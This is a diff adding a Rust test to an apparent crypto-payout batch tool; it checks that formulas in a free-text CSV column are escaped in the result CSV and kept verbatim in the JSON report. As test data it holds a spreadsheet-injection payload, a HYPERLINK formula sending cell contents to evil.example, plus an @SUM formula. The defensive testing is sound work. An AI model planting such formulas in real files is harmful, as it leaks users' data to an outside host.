@@ -340,6 +340,56 @@ async fn a_day_capped_before_the_start_costs_one_refused_create_not_a_round() {
     }
 }
 
+/// A formula in a free-text column (issue 14, 5) reaches the result CSV as text that a
+/// spreadsheet shows and never runs, and the JSON report as the exact text.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_formula_in_the_reference_column_is_no_live_formula_in_the_result_csv() {
+    let api = TestApi::start_live(sandbox_config()).await;
+    let dir = tempfile::tempdir().unwrap();
+    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
+    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+    let file = dir.path().join("formula.csv");
+    std::fs::write(
+        &file,
+        format!(
+            "order_id,recipient,coin,chain,amount,reference\n\
+             fx-1,TFVq4F22oTuPf1Z3a27awyrKt3azrmep6K,USDT,TRX,5,\"{}\"\n\
+             fx-2,TSGACwShBWKpUV3mCp5yh3zwn36kYtDZNr,USDT,TRX,5,@SUM(A1:A9)\n",
+            evil.replace('"', "\"\"")
+        ),
+    )
+    .unwrap();
+    let run = submit(&api, &state, &config, &file);
+    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
+    let reports: Vec<std::path::PathBuf> = std::fs::read_dir(state.join("reports"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    let find = |suffix: &str| {
+        reports
+            .iter()
+            .find(|p| p.to_string_lossy().ends_with(suffix))
+            .unwrap_or_else(|| panic!("no {suffix} in {reports:?}"))
+            .clone()
+    };
+    let csv_text = std::fs::read_to_string(find(".result.csv")).unwrap();
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let reference = headers.iter().position(|h| h == "reference").unwrap();
+    let mut seen = Vec::new();
+    for record in reader.records() {
+        let record = record.unwrap();
+        for cell in record.iter() {
+            let live = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
+            assert!(!live, "a live formula in the result CSV: {cell:?}");
+        }
+        seen.push(record[reference].to_owned());
+    }
+    assert_eq!(seen, [format!("'{evil}"), "'@SUM(A1:A9)".to_owned()]);
+    let json = std::fs::read_to_string(find(".result.json")).unwrap();
+    assert!(json.contains(&serde_json::to_string(evil).unwrap()), "{json}");
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_permanent_error_rejects_only_that_order() {
     let api = TestApi::start_live(sandbox_config()).await;
